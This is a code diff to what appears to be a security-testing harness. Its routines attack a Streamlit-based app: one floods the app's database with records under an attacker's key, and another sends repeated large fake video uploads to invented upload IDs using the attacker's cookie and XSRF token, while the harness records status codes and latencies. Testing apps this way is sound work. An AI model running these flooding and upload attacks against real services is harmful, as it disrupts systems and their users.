@@ -73,6 +73,9 @@ async def figures_and_marks(target: Target, noticed: Noticed) -> None:
     session = await make_session(target, target.attacker)
     marks = await asyncio.to_thread(_fill, target, session)
     noticed.notes.append(f"{marks} marks taken")
+    # The attack begins here.
+    noticed.longest = 0.0
+    noticed.statuses.clear()
     end, statuses = time.monotonic() + HOLD, Counter[int]()
 
     async def ask() -> None:
@@ -95,7 +98,9 @@ def _fill(target: Target, session_id: str) -> int:
     moods = [RoomMood(float(second), 20, 20, scores) for second in range(_MOODS)]
     store = Store(f"sqlite:///{target.folder / 'data' / 'roomread.db'}")
     owned = store.owned_by(f"key:{target.attacker['Authorization'].split('_')[1]}")
-    owned.append(session_id, [Piece(1, 0.0, moods)])
+    # In small transactions, which are not part of the attack.
+    for number, start in enumerate(range(0, _MOODS, 1000), start=1):
+        owned.append(session_id, [Piece(number, float(start), moods[start : start + 1000])])
     step = _MOODS / _MARKS
     try:
         for first in range(0, _MARKS, 100):
@@ -113,8 +118,8 @@ async def app_uploads(target: Target, noticed: Noticed) -> None:
     host = target.url.replace("http", "ws", 1)
     cookie = "; ".join(f"{name}={value}" for name, value in target.attacker_cookie.items())
     async with httpx.AsyncClient(cookies=target.attacker_cookie, timeout=60) as http:
-        await http.get(f"{target.url}/_stcore/host-config")
-        token = http.cookies.get("_streamlit_xsrf") or ""
+        await http.get(f"{target.url}/_stcore/health")
+        xsrf = {"X-Xsrftoken": http.cookies.get("_streamlit_xsrf") or ""}
         page = websockets.connect(
             f"{host}/_stcore/stream",
             additional_headers={"Cookie": cookie},
@@ -124,13 +129,17 @@ async def app_uploads(target: Target, noticed: Noticed) -> None:
         async with page as socket:
             await socket.send(BackMsg(rerun_script=ClientState()).SerializeToString())
             session = await _page_session(socket)
-            with tempfile.TemporaryFile() as content:
+            with tempfile.NamedTemporaryFile(suffix=".mp4") as content:
                 content.truncate(_UPLOAD)
 
                 async def put(number: int) -> int:
                     address = f"{target.url}/_stcore/upload_file/{session}/invented-{number}"
-                    files = {"file": ("a.mp4", bytes(_UPLOAD), "video/mp4")}
-                    answer = await http.put(address, files=files, headers={"X-Xsrftoken": token})
+                    with Path(content.name).open("rb") as file:  # noqa: ASYNC230 (httpx reads it anyway)
+                        sent = {"file": ("a.mp4", file, "video/mp4")}
+                        try:
+                            answer = await http.put(address, files=sent, headers=xsrf)
+                        except httpx.HTTPError:
+                            return 0
                     return answer.status_code
 
                 begun = time.monotonic()
